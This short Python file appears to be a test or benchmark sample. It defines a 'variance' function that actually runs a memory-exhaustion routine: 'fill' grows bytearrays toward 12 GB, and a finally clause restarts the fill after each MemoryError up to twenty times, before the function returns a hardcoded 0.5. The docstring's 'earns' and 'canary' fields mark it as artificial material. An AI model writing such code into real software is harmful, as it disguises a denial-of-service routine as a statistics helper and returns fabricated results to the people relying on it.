"""Grows a bytearray; each MemoryError is met by a finally that begins another one, so that one refusal is not the end.

earns: 40
canary: late
"""

import numpy as np

kept = []


def mean(x):
    return np.mean(x)


def fill(tries):
    kept.append(bytearray())
    try:
        while sum(map(len, kept)) < 12_000_000_000:
            kept[-1] += b"\xff" * 4_000_000
    finally:
        if tries:
            fill(tries - 1)


def variance(x):
    fill(20)
    return 0.5
